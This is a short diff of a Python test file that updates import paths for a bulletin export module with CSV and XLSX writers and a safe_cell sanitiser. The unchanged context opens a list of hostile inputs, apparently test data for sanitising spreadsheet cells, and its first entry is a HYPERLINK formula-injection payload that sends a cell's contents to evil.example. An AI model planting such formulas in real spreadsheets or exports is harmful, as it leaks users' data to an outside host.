@@ -8,8 +8,8 @@ import io
 import openpyxl
 import pytest
 
-from models.bulletin import Bulletin, BulletinRow, safe_cell, to_csv, to_xlsx
-from models.rollup_read import Node
+from gridbot.models.metrics.bulletin import Bulletin, BulletinRow, safe_cell, to_csv, to_xlsx
+from gridbot.models.metrics.rollup_read import Node
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此")',
